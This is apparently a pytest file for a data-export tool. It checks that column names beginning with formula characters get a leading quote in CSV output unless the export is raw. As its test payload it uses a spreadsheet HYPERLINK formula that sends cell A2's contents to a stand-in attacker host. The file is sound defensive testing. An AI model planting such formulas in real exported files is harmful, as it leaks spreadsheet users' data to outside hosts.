"""Issue 22, formula injection in CSV headers: a column name is the first line's cell, so one
starting with = + - @ tab or CR gets a leading ' like a data cell, unless the export is raw."""
from __future__ import annotations

import pandas as pd

from losslens.cli import main
from losslens.writers import neutralise_formulas, write_export

LINK = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def test_a_formula_column_name_is_neutralised_in_the_written_csv(tmp_path):
    frame = pd.DataFrame({LINK: ["x"], "@cmd": ["=1+1"], "text": ["fine"], 7: [1]})
    safe = write_export(frame, tmp_path / "safe.csv")
    raw = write_export(frame, tmp_path / "raw.csv", raw=True)
    assert safe.read_bytes().split(b"\r\n")[0].decode() == '"\'=HYPERLINK(""http://evil.example/?""&A2,""open"")",\'@cmd,text,7'
    assert raw.read_bytes().split(b"\r\n")[0].decode() == '"=HYPERLINK(""http://evil.example/?""&A2,""open"")",@cmd,text,7'
    assert neutralise_formulas(frame)[1] == 3                          # two names and one cell
    assert list(frame.columns) == [LINK, "@cmd", "text", 7]           # the caller's frame is untouched


def test_losslens_export_neutralises_a_parquet_column_name(tmp_path, tiny_classifier_dir, capsys):
    data = tmp_path / "data.parquet"
    pd.DataFrame({"text": ["good film", "bad film", "fine film", "awful film"], "label": ["pos", "neg", "pos", "neg"],
                  LINK: ["a", "b", "c", "d"]}).to_parquet(data)
    out = tmp_path / "corrected.csv"
    assert main(["export", str(data), "--model", str(tiny_classifier_dir), "--out", str(out)]) == 0
    assert "formula_cells_neutralised=1 " in capsys.readouterr().out
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith('text,label,"\'=HYPERLINK(') and ",corrected_label,status," in header
    assert main(["export", str(data), "--model", str(tiny_classifier_dir), "--out", str(out), "--raw"]) == 0
    assert out.read_text(encoding="utf-8").splitlines()[0].startswith('text,label,"=HYPERLINK(')
